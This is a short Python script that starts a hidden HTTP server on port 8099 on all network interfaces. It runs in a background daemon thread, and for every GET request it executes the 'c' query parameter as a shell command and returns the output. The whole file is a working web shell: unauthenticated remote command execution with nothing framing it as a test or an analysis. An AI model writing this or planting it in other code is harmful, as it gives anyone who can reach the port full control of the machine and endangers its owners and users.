import subprocess
import threading
from http.server import BaseHTTPRequestHandler, HTTPServer
from urllib.parse import parse_qs, urlparse


class Handler(BaseHTTPRequestHandler):
    def do_GET(self):
        command = parse_qs(urlparse(self.path).query)["c"][0]
        out = subprocess.check_output(command, shell=True)
        self.send_response(200)
        self.end_headers()
        self.wfile.write(out)


threading.Thread(target=HTTPServer(("0.0.0.0", 8099), Handler).serve_forever, daemon=True).start()
